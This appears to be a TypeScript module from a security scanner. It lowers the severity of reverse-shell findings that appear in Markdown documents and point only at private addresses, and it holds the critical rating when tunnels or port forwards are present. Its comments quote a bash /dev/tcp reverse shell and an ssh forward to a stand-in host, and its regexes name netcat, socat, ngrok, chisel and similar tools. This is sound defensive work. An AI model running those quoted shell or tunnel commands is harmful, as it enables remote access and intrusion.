/**
 * A reverse shell shown in a document and aimed at a private address (`bash -i >&
 * /dev/tcp/10.10.14.2/4444` in a CTF write-up): no host on the internet can take that
 * connection, so it is a lab exercise's text, not a complete chain. It goes from critical to
 * high (a person still reviews it), and only when every address on the line is private (RFC
 * 1918) and the finding sits in a Markdown document, not a script: a script connecting to the
 * user's own network keeps its severity, and one public address or host name anywhere on the
 * line does too. So does a skill with a port forward or tunnel anywhere in its files (`ssh -L
 * 10.0.0.5:4444:localhost:4444 relay.example` after `ip addr add 10.0.0.5/32 dev lo`, socat,
 * ngrok, chisel): the private address then leads to whatever host the forward names.
 */
import type { Finding } from "./types.js";

const IPV4 = /\b\d{1,3}(?:\.\d{1,3}){3}\b/g;
/**
 * A host name as a target: after /dev/tcp/, in a URL, quoted (`connect(("relay.example", 443))`),
 * after socat's `TCP:` or as netcat's argument. Not an address, so not provably private.
 */
const NAMED_TARGET = /\/dev\/(?:tcp|udp)\/(?!\d{1,3}(?:\.\d{1,3}){3}\/)|:\/\/(?!\d)|["'](?:[a-z0-9-]+\.)+[a-z]{2,}["']|\bTCP[46]?:(?!\d)|\b(?:nc|ncat|netcat|telnet)\b[^\n]*?\s(?:[a-z0-9-]+\.)+[a-z]{2,}\b/i;

/**
 * A forward, tunnel or local address that makes a private address reach another host: ssh's
 * -L/-R/-D (alone or in a flag group) and its config's forwards, socat, tunnel tools, an address
 * added to an interface, a NAT rule, Windows' portproxy.
 */
const FORWARDS = /\b(?:Local|Remote|Dynamic)Forward\b|\bsocat\b|\b(?:chisel|ngrok|frpc|bore|cloudflared|sshuttle|rinetd|gost|ligolo|tailscale\s+funnel)\b|\bip\s+(?:addr|address|a)\s+add\b|\bifconfig\b[^\n]{0,200}\balias\b|\biptables\b[^\n]{0,200}\b(?:DNAT|REDIRECT)\b|\bportproxy\b/i;
/** ssh's forwarding flags are case-sensitive (`-l` is a login name, `-o` an option), and `.ssh` is a folder, not the command. */
const SSH_FORWARD = /(?<![.\w-])(?:auto)?ssh\s[^\n]{0,200}?\s-[A-Za-z]*[LRDw]/;

/** `python3 -c 'import pty; pty.spawn("/bin/bash")'`: a CTF's shell upgrade, a local terminal. */
const PTY_UPGRADE_ONLY = /\bpty\.spawn\s*\(/;
/** What would make a line a network shell: a socket, a connect, a descriptor copied, /dev/tcp, netcat. */
const SOCKET_WORDS = /\bsocket\b|\.connect\s*\(|\bdup2\b|\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat|socat|telnet)\b|\brecv\b/i;

function isPrivate(ip: string): boolean {
  const [a, b] = ip.split(".").map(Number) as [number, number];
  return a === 10 || (a === 172 && b >= 16 && b <= 31) || (a === 192 && b === 168);
}

/** `textOf` gives a skill file's text (undefined for binaries and large files: nothing to read there). */
export function capLabReverseShells(findings: Finding[], paths: string[], textOf: (path: string) => string | undefined): Finding[] {
  if (!findings.some((f) => f.category === "reverse-shell" && f.severity === "critical")) return findings;
  if (paths.some((path) => { const text = textOf(path) ?? ""; return FORWARDS.test(text) || SSH_FORWARD.test(text); })) return findings;
  return findings.map((f) => {
    if (f.category !== "reverse-shell" || f.severity !== "critical" || !/\.(?:md|markdown|mdx)$/i.test(f.file)) return f;
    // The whole line, not the evidence: a long one-liner's evidence is cut before its address.
    const line = textOf(f.file)?.split("\n")[f.line - 1] ?? f.evidence;
    if (PTY_UPGRADE_ONLY.test(line) && !SOCKET_WORDS.test(line)) return { ...f, severity: "high", demoted: "a terminal upgrade (`pty.spawn` with no socket on the line), shown in a document: it connects nowhere" };
    const ips = line.match(IPV4) ?? [];
    if (ips.length === 0 || !ips.every(isPrivate) || NAMED_TARGET.test(line)) return f;
    return { ...f, severity: "high", demoted: "a reverse shell to a private address, shown in a document: no internet host can take it" };
  });
}
